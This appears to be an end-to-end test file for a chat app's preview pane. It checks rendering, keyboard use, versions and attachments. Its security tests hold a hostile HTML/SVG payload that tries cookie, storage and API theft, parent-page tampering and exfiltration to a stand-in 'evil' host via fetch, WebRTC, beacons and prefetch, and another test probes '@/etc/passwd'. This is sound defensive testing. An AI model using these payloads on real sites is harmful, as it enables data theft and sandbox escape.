import { createSocket } from 'node:dgram'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterEach, expect, it } from 'vitest'
import { openBrowser } from './support/chromium.ts'
import { describePage } from './support/describe-page.ts'
import { closePages, openPage, say, signIn } from './support/open-page.ts'

afterEach(closePages)

const log = (page: Page) => page.getByRole('log', { name: 'Conversation' })
const pane = (page: Page) => page.getByRole('complementary', { name: 'Preview' })
/** The button of the newest block that contains this text. */
const openButton = (page: Page, text: string) =>
  log(page).locator('div.overflow-hidden', { hasText: text }).last().getByRole('button', { name: 'Open in preview' })

/** For a person to look at, where `PAGE_SHOTS` names a folder. */
async function shoot(page: Page, name: string): Promise<void> {
  const folder = process.env.PAGE_SHOTS
  if (folder === undefined) return
  mkdirSync(folder, { recursive: true })
  await page.screenshot({ path: join(folder, `preview-${name}.png`) })
}

const htmlOf = (word: string) =>
  `<!doctype html><title>Counter</title><style>body { font: 18px sans-serif } button { padding: 8px 16px }</style>
<h1>${word} counter</h1><button id="b">0</button>
<script>let n = 0; b.onclick = () => { b.textContent = ++n }</script>`

const kinds = [
  'A drawing:\n\n```svg\n<svg viewBox="0 0 100 60"><rect width="100" height="60" fill="teal"/><circle cx="50" cy="30" r="20" fill="gold"/></svg>\n```',
  '```mermaid\nflowchart LR\n  A[Question] -->|yes| B[Answer]\n```',
  '```markdown\n# Plan of May\n\n- [x] One\n- [ ] Two\n```',
  '```csv\ncity,rain\nKiel,9\nBonn,"1,200"\nAachen,10\n```',
  '```python title="sum.py"\ndef add(a, b):\n    return a + b\n```',
].join('\n\n')

describePage('the preview pane', () => {
  it('PAGE-13 opens from a code block: code, HTML with its scripts, SVG, diagrams, Markdown and sortable tables', async () => {
    const { page, fake } = await openPage({ context: { viewport: { width: 1280, height: 800 } } })
    fake.reply({ text: `${kinds}\n\n\`\`\`html\n${htmlOf('First')}\n\`\`\`` })
    await say(page, 'Show all kinds')
    await log(page).locator('article[aria-busy=false]').waitFor()

    await openButton(page, 'First counter').click()
    const frame = pane(page).frameLocator('iframe')
    await frame.getByRole('button', { name: '0' }).click()
    await frame.getByRole('button', { name: '1' }).waitFor()
    await shoot(page, 'html-light')
    await pane(page).getByRole('button', { name: 'Source' }).click()
    await pane(page).locator('.code-piece', { hasText: 'doctype' }).first().waitFor()
    await shoot(page, 'source-light')

    await openButton(page, 'circle').click()
    const drawing = pane(page).getByRole('img')
    await expect.poll(() => drawing.evaluate((image) => (image as unknown as Picture).naturalWidth)).toBeGreaterThan(10)
    await openButton(page, 'def add').click()
    await pane(page).getByRole('heading', { name: 'sum.py' }).waitFor()
    await pane(page).locator('.code-piece', { hasText: 'return' }).waitFor()
    const downloading = page.waitForEvent('download')
    await pane(page).getByRole('button', { name: 'Download' }).click()
    const download = await downloading
    expect(download.suggestedFilename()).toBe('sum.py')
    expect(readFileSync(await download.path(), 'utf8')).toBe('def add(a, b):\n    return a + b')

    await log(page).locator('figure').getByRole('button', { name: 'Open in preview' }).click()
    await pane(page).getByRole('img', { name: 'Diagram' }).waitFor()
    await openButton(page, 'Plan of May').click()
    await pane(page).getByRole('heading', { name: 'Plan of May', level: 2 }).first().waitFor()
    expect(await pane(page).getByRole('checkbox').count()).toBe(2)

    await openButton(page, 'Aachen').click()
    const column = async (at: number) =>
      (await pane(page).locator('tbody tr').allTextContents()).length > 0
        ? pane(page).locator(`tbody td:nth-child(${at})`).allTextContents()
        : []
    await pane(page).getByRole('button', { name: 'rain' }).click()
    expect(await column(2)).toEqual(['9', '10', '1,200'])
    await pane(page).getByRole('button', { name: 'rain' }).click()
    expect(await column(1)).toEqual(['Bonn', 'Aachen', 'Kiel'])
    await pane(page).getByRole('columnheader', { name: 'rain' }).and(page.locator('[aria-sort=descending]')).waitFor()
    await shoot(page, 'table-light')
    await page.emulateMedia({ colorScheme: 'dark' })
    await page.locator(':root[data-theme=dark]').waitFor({ state: 'attached' })
    await shoot(page, 'table-dark')
  })

  it('PAGE-13 is worked by keyboard, gives the focus back, and keeps its width', async () => {
    const { page, fake } = await openPage({ context: { viewport: { width: 1280, height: 800 } } })
    fake.reply({ text: '```python\nprint("one")\n```' })
    await say(page, 'Code')
    await log(page).locator('article[aria-busy=false]').waitFor()
    const opener = openButton(page, 'print')
    await opener.focus()
    await page.keyboard.press('Enter')
    await expect
      .poll(() => pane(page).evaluate((element) => element.contains(element.ownerDocument.activeElement)))
      .toBe(true)
    const separator = page.getByRole('separator', { name: 'Width of the preview' })
    await page.keyboard.press('Tab')
    const width = async () => Number(await separator.getAttribute('aria-valuenow'))
    const before = await width()
    await page.keyboard.press('ArrowRight')
    await expect.poll(width).toBe(before - 32)
    await page.keyboard.press('Escape')
    await pane(page).waitFor({ state: 'detached' })
    expect(await opener.evaluate((element) => element === element.ownerDocument.activeElement)).toBe(true)

    await opener.click()
    const box = await separator.boundingBox()
    await page.mouse.move((box?.x ?? 0) + 3, 400)
    await page.mouse.down()
    await page.mouse.move((box?.x ?? 0) + 63, 400, { steps: 4 })
    await page.mouse.up()
    const dragged = await width()
    expect(dragged).toBeLessThan(before - 70)
    await page.reload()
    await log(page).locator('article[aria-busy=false]').waitFor()
    await openButton(page, 'print').click()
    await expect.poll(width).toBe(dragged)
    await pane(page).getByRole('button', { name: 'Close preview' }).click()
    await pane(page).waitFor({ state: 'detached' })
  })

  it('PAGE-13 Escape inside a previewed page closes the pane', async () => {
    const { page, fake } = await openPage({ context: { viewport: { width: 1280, height: 800 } } })
    fake.reply({ text: `\`\`\`html\n${htmlOf('First')}\n\`\`\`` })
    await say(page, 'Show')
    await log(page).locator('article[aria-busy=false]').waitFor()
    await openButton(page, 'First counter').click()
    await pane(page).frameLocator('iframe').getByRole('button', { name: '0' }).press('Escape')
    await pane(page).waitFor({ state: 'detached' })
  })

  it('PAGE-13 blocks of one document are versions with a switch, and a newer one is followed', async () => {
    const { page, fake } = await openPage({ context: { viewport: { width: 1280, height: 800 } } })
    const version = (word: string) => ({ text: `\`\`\`html\n${htmlOf(word)}\n\`\`\`` })
    fake.reply(version('First'))
    await say(page, 'Make a counter')
    await log(page).getByRole('button', { name: 'Open in preview' }).click()
    const heading = pane(page).frameLocator('iframe').getByRole('heading')
    await expect.poll(() => heading.textContent()).toBe('First counter')
    fake.reply(version('Second'))
    await say(page, 'Make it better')
    await pane(page).getByText('v2 of 2').waitFor()
    await expect.poll(() => heading.textContent()).toBe('Second counter')
    await pane(page).getByRole('button', { name: 'Previous version' }).click()
    await pane(page).getByText('v1 of 2').waitFor()
    await expect.poll(() => heading.textContent()).toBe('First counter')
    await shoot(page, 'versions')
  })

  it('PAGE-13 is a sheet over the whole screen of a phone', async () => {
    const { page, fake } = await openPage({ context: { viewport: { width: 390, height: 844 }, hasTouch: true } })
    fake.reply({ text: `\`\`\`html\n${htmlOf('Phone')}\n\`\`\`` })
    await say(page, 'Make a counter')
    await log(page).getByRole('button', { name: 'Open in preview' }).click()
    const sheet = page.getByRole('dialog', { name: 'Counter' })
    await sheet.frameLocator('iframe').getByRole('heading', { name: 'Phone counter' }).waitFor()
    expect(await sheet.boundingBox()).toMatchObject({ x: 0, y: 0, width: 390, height: 844 })
    await shoot(page, 'phone-light')
    await page.emulateMedia({ colorScheme: 'dark' })
    await page.locator(':root[data-theme=dark]').waitFor({ state: 'attached' })
    await shoot(page, 'phone-dark')
    await sheet.getByRole('button', { name: 'Close preview' }).click()
    await sheet.waitFor({ state: 'detached' })
    expect(await page.evaluate('document.activeElement.getAttribute("aria-label")')).toBe('Open in preview')
  })

  it('PAGE-13 opens attachments and named files: PDF as pages, pictures, sound, text, and files without a preview', async () => {
    const { page, fake, familiar } = await openPage({ context: { viewport: { width: 1280, height: 800 } } })
    const folder = join(familiar.home, 'workspace')
    mkdirSync(folder, { recursive: true })
    fake.respondWith(() => ({ text: 'Seen.' }))
    await page.locator('input[type=file]').setInputFiles([
      { name: 'report.pdf', mimeType: 'application/pdf', buffer: madePdf(['Hello pages', 'Second page']) },
      { name: 'dot.png', mimeType: 'image/png', buffer: Buffer.from(png, 'base64') },
      { name: 'note.txt', mimeType: 'text/plain', buffer: Buffer.from('plain words') },
      { name: 'data.bin', mimeType: 'application/octet-stream', buffer: Buffer.from([0, 1, 2, 255]) },
      { name: 'beep.wav', mimeType: 'audio/wav', buffer: madeWav() },
    ])
    await say(page, 'Look at these')
    await log(page).getByText('Seen.').first().waitFor()

    await log(page)
      .getByRole('button', { name: /^report\.pdf/ })
      .click()
    const first = pane(page).getByRole('img', { name: 'Page 1 of 2' })
    await first.locator('canvas').waitFor()
    const inked = `(canvas) => {
      const { data } = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height)
      let dark = 0
      for (let at = 0; at < data.length; at += 4) if (data[at] < 100 && data[at + 3] > 200) dark += 1
      return dark
    }`
    await expect
      .poll(() => first.locator('canvas').evaluate(`(${inked})(document.querySelector('[data-page] canvas'))`))
      .toBeGreaterThan(50)
    await shoot(page, 'pdf')
    await pane(page).getByRole('button', { name: 'Text', exact: true }).click()
    await pane(page).getByText('Hello pages').waitFor()

    await log(page).getByRole('button', { name: 'Enlarge dot.png' }).click()
    await pane(page).getByRole('button', { name: 'Actual size' }).click()
    await pane(page).getByRole('img', { name: 'dot.png' }).waitFor()
    await log(page)
      .getByRole('button', { name: /^note\.txt/ })
      .click()
    await pane(page).getByText('plain words').waitFor()
    await log(page)
      .getByRole('button', { name: /^data\.bin/ })
      .click()
    await pane(page).getByText('This file has no preview.').waitFor()
    expect(
      await log(page)
        .getByLabel('beep.wav')
        .evaluate((audio) => (audio as unknown as { controls: boolean }).controls),
    ).toBe(true)

    writeFileSync(join(folder, 'todo.md'), '# Todo of today\n')
    await say(page, 'Read @todo.md, please')
    await log(page).getByRole('button', { name: 'Open @todo.md' }).click()
    await pane(page).getByRole('heading', { name: 'Todo of today', level: 2 }).waitFor()
    const written = await familiar.request('POST', '/api/v1/local/files/write', {
      path: 'todo.md',
      content: '# Todo of tomorrow\n',
    })
    expect(written.status).toBe(200)
    await log(page).getByRole('button', { name: 'Open @todo.md' }).click()
    await pane(page).getByText('v2 of 2').waitFor()
    await pane(page).getByRole('heading', { name: 'Todo of tomorrow', level: 2 }).waitFor()
    await pane(page).getByRole('button', { name: 'Previous version' }).click()
    await pane(page).getByRole('heading', { name: 'Todo of today', level: 2 }).waitFor()
    // Only what the message names: no request names a path.
    const session = /\/talk\/([\w-]+)$/.exec(page.url())?.[1]
    const history = await familiar.request('GET', `/api/v1/sessions/${session}/turn-events`)
    const { events } = (await history.json()) as { events: { event: { messageId?: string; text?: string } }[] }
    const id = events.find(({ event }) => event.text?.includes('@todo.md'))?.event.messageId
    const asked = async (name: string) =>
      (
        await familiar.request(
          'GET',
          `/api/v1/sessions/${session}/messages/${id}/mention?name=${encodeURIComponent(name)}`,
        )
      ).status
    expect(await Promise.all(['@todo.md', '@other.md', '@/etc/passwd', 'todo.md'].map(asked))).toEqual([
      200, 404, 404, 404,
    ])
  })

  it('SEC-9a hostile HTML and SVG reach neither the page, nor the API, nor the network', async () => {
    const { fake, url, familiar, signInLink } = await openPage()
    const reached: string[] = []
    const outside = createServer((request, response) => {
      reached.push(`${request.method} ${request.url}`)
      response.setHeader('access-control-allow-origin', '*').end('ok')
    })
    outside.on('connection', () => reached.push('connected'))
    await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve))
    const peer = createSocket('udp4')
    peer.on('message', () => reached.push('peer connection'))
    await new Promise<void>((resolve) => peer.bind(0, '127.0.0.1', resolve))
    const evil = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`
    const stun = `stun:127.0.0.1:${peer.address().port}`
    const browser = await openBrowser()
    // Not watched as other pages are: its console says what was refused.
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } })
    try {
      const page = await context.newPage()
      const apiCalls: string[] = []
      await signIn(page, await signInLink())
      // A refused request has no response.
      page.on('response', (response) => {
        if (response.frame() !== page.mainFrame()) apiCalls.push(response.url())
      })
      fake.respondWith(() => ({
        text: [hostileHtml(evil, url, stun), hostileSvg(evil)]
          .map((code, at) => `\`\`\`${['html', 'svg'][at]}\n${code}\n\`\`\``)
          .join('\n\n'),
      }))
      await say(page, 'Show')
      await log(page).locator('article[aria-busy=false]').waitFor()
      await openButton(page, 'document.title').click()
      const frame = pane(page).frameLocator('iframe')
      // It ran, and says what it could do.
      await frame.locator('#result').getByText('tried everything').waitFor()
      const result = JSON.parse((await frame.locator('#result').getAttribute('data-result')) ?? '{}') as Record<
        string,
        string
      >
      expect(Object.entries(result).filter(([, outcome]) => outcome !== 'refused')).toEqual([])
      expect(Object.keys(result).length).toBeGreaterThan(12)
      expect(
        await page.evaluate('[window.fired, document.title.includes("taken"), location.pathname.startsWith("/talk/")]'),
      ).toEqual([undefined, false, true])
      // Only its own document was asked for.
      expect(apiCalls.filter((one) => !one.endsWith('/preview.html'))).toEqual([])
      expect(reached).toEqual([])
      await frame.getByText('written').waitFor()

      // A frame that leaves its document goes nowhere.
      fake.respondWith(() => ({
        text: `\`\`\`html\n<p>leaving</p><script>location = ${JSON.stringify(`${evil}/left?secret`)}</script>\n\`\`\``,
      }))
      await say(page, 'Leave')
      await log(page).getByText('leaving').first().waitFor()
      await openButton(page, 'leaving').click()
      await expect.poll(() => page.frames().some((one) => one.url().startsWith('chrome-error:'))).toBe(true)
      // Chromium connects before it asks the policy, and then sends nothing.
      expect(reached.filter((one) => one !== 'connected')).toEqual([])

      await openButton(page, '<circle').click()
      await expect
        .poll(() =>
          pane(page)
            .getByRole('img')
            .evaluate((image) => (image as unknown as Picture).naturalWidth),
        )
        .toBeGreaterThan(0)
      expect(await page.evaluate('window.fired')).toBeUndefined()
      expect(reached.filter((one) => one !== 'connected')).toEqual([])
      // The page still works, and its session is untouched.
      fake.respondWith(() => ({ text: 'Still here.' }))
      await page.keyboard.press('Escape')
      await say(page, 'Are you there?')
      await log(page).getByText('Still here.').waitFor()
      expect((await familiar.request('GET', '/api/v1/memories')).status).toBe(200)
    } finally {
      await context.close()
      peer.close()
      await new Promise((resolve) => outside.close(resolve))
    }
  })

  it('SEC-9a the document of previews has no origin and no network, and no other page may embed it', async () => {
    const { page, url } = await openPage()
    const headers = (await page.request.get(`${url}/preview.html`)).headers()
    const policy = headers['content-security-policy'] ?? ''
    expect(policy).toContain('sandbox allow-scripts;')
    expect(policy).toContain(`default-src 'none'`)
    expect(policy).toContain(`frame-ancestors 'self'`)
    for (const right of ['allow-same-origin', 'connect-src', 'frame-src', `'self' `, 'https:', '*']) {
      expect(policy.replace(`frame-ancestors 'self'`, ''), right).not.toContain(right)
    }
    expect(headers['connection-allowlist']).toBe('()')
  })
})

interface Picture {
  naturalWidth: number
}

/** Tries everything that a page can do to be heard. */
const hostileHtml = (evil: string, url: string, stun: string) => `<!doctype html><title>x</title>
<img src="${evil}/img"><link rel="stylesheet" href="${evil}/css"><script src="${evil}/js"></script><script src="${url}/assets/x.js"></script>
<link rel="preconnect" href="${evil}"><link rel="prefetch" href="${evil}/prefetch"><meta http-equiv="refresh" content="600;url=${evil}/refresh">
<style>@import url(${evil}/import); body { background: url(${evil}/bg) } @font-face { font-family: f; src: url(${evil}/font) } p { font-family: f }</style>
<script>document.write('<li'); document.write('nk rel="preconnect" href="${evil}">'); document.write('<p>written</p>')</script>
<p id="result">trying</p><a id="link" href="${evil}/link" target="_blank">x</a><form id="form" action="${evil}/form"></form>
<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>parent.nested = !!window.RTCPeerConnection; fetch('${evil}/nested')</script>"></iframe>
<script>
(async () => {
  const tried = {}
  const attempt = async (name, work) => {
    try { const out = await work(); tried[name] = out === 'refused' ? out : 'done: ' + String(out).slice(0, 80) } catch { tried[name] = 'refused' }
  }
  await attempt('title', () => { parent.document.title = 'taken'; return parent.document.title })
  await attempt('global', () => { top.fired = 1 })
  await attempt('element', () => frameElement.ownerDocument.body.innerHTML)
  await attempt('cookie', () => document.cookie)
  await attempt('storage', () => localStorage.length)
  await attempt('database', () => new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = () => yes('open'); open.onerror = no }))
  await attempt('api', () => fetch('${url}/api/v1/sessions', { credentials: 'include' }).then((r) => r.status))
  await attempt('apiPost', () => fetch('/api/v1/chat', { method: 'POST', mode: 'no-cors', body: '{}' }).then((r) => r.type))
  await attempt('fetch', () => fetch('${evil}/fetch', { mode: 'no-cors' }).then((r) => r.type))
  await attempt('request', () => new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open('GET', '${evil}/xhr'); r.send() }))
  await attempt('socket', () => new Promise((yes, no) => { const s = new WebSocket('${evil}'.replace('http', 'ws')); s.onopen = yes; s.onerror = no }))
  await attempt('events', () => new Promise((yes, no) => { const s = new EventSource('${evil}/sse'); s.onopen = yes; s.onerror = no }))
  await attempt('worker', () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = yes; w.onerror = no }))
  await attempt('import', () => import('${evil}/module.js'))
  await attempt('popup', () => window.open('${evil}/popup') === null ? 'refused' : 'opened')
  await attempt('top', () => { top.location.href = '${evil}/top' })
  await attempt('clipboard', () => navigator.clipboard.writeText('taken'))
  await attempt('policy', () => document.cookie = 'a=b')
  const peers = (type) => {
    const peer = new type({ iceServers: [{ urls: '${stun}' }] })
    peer.createDataChannel('x')
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => 'offered')
  }
  await attempt('peer', () => peers(RTCPeerConnection))
  const put = (frame) => document.body.appendChild(frame)
  await attempt('peerOfFrame', () => peers(put(document.createElement('iframe')).contentWindow.RTCPeerConnection))
  const peerText = 'const p = new RTCPeerConnection({ iceServers: [{ urls: "${stun}" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))'
  const framed = document.createElement('IFRAME')
  framed.srcdoc = '<scr' + 'ipt>' + peerText + '</scr' + 'ipt>'
  put(framed)
  const byNs = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe')
  byNs.setAttribute('srcdoc', framed.srcdoc)
  put(byNs)
  const holder = put(document.createElement('div'))
  holder.innerHTML = '<iframe srcdoc="&lt;script>' + peerText.replaceAll('"', '&quot;') + '&lt;/script>"></iframe><link rel="preconnect" href="${evil}">'
  for (const make of [() => document.createElement('link'), () => document.createElementNS('http://www.w3.org/1999/xhtml', 'link'), () => document.implementation.createHTMLDocument().createElement({ at: 0, toString() { return this.at++ ? 'link' : 'div' } }), () => new DOMParser().parseFromString('<link>', 'text/html').querySelector('link'), () => document.createRange().createContextualFragment('<link>').firstChild]) {
    try {
      const link = make()
      link.setAttribute('rel', 'preconnect')
      link.setAttribute('href', '${evil}')
      document.head.append(link)
    } catch {}
  }
  try {
    class Link extends HTMLLinkElement {}
    customElements.define('x-made', Link, { extends: 'link' })
    document.head.append(Object.assign(new Link(), { rel: 'preconnect', href: '${evil}' }))
  } catch {}
  try {
    RegExp.prototype.exec = () => null
    RegExp.prototype[Symbol.replace] = (text) => text
  } catch {}
  holder.insertAdjacentHTML('beforeend', '<link rel="preconnect" href="${evil}">')
  const rules = document.createElement('script')
  rules.type = 'speculationrules'
  rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${evil}/speculation'] }], prerender: [{ source: 'list', urls: ['${evil}/prerender'] }] })
  document.head.append(rules)
  navigator.sendBeacon('${evil}/beacon', 'x')
  link.click()
  form.submit()
  parent.postMessage({ isReady: true, id: 1, svg: '<svg onload=fired=1>' }, '*')
  parent.postMessage('ready', '*')
  await new Promise((resolve) => setTimeout(resolve, 1500))
  result.dataset.result = JSON.stringify(tried)
  result.textContent = 'tried everything'
})()
</script>`

const hostileSvg = (
  evil: string,
) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" width="100" height="100" onload="window.fired=1;parent.fired=1">
<script>window.fired = 1; fetch('${evil}/svg')</script><image href="${evil}/svg-image" width="1" height="1"/>
<foreignObject width="5" height="5"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/svg-frame"/></foreignObject><circle r="4"/></svg>`

const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** A PDF with a line of text on each page. */
function madePdf(pages: readonly string[]): Buffer {
  const kids = pages.map((_, at) => `${4 + at * 2} 0 R`).join(' ')
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...pages.flatMap((text, at) => {
      const content = `BT /F1 32 Tf 72 700 Td (${text}) Tj ET`
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + at * 2} 0 R >>`,
        `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
      ]
    }),
  ]
  let text = '%PDF-1.4\n'
  const offsets = objects.map((object, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const start = text.length
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

/** A tenth of a second of silence. */
function madeWav(): Buffer {
  const samples = Buffer.alloc(1_600)
  const head = Buffer.alloc(44)
  head.write('RIFF', 0)
  head.writeUInt32LE(36 + samples.length, 4)
  head.write('WAVEfmt ', 8)
  head.writeUInt32LE(16, 16)
  head.writeUInt16LE(1, 20)
  head.writeUInt16LE(1, 22)
  head.writeUInt32LE(8_000, 24)
  head.writeUInt32LE(16_000, 28)
  head.writeUInt16LE(2, 32)
  head.writeUInt16LE(16, 34)
  head.write('data', 36)
  head.writeUInt32LE(samples.length, 40)
  return Buffer.concat([head, samples])
}
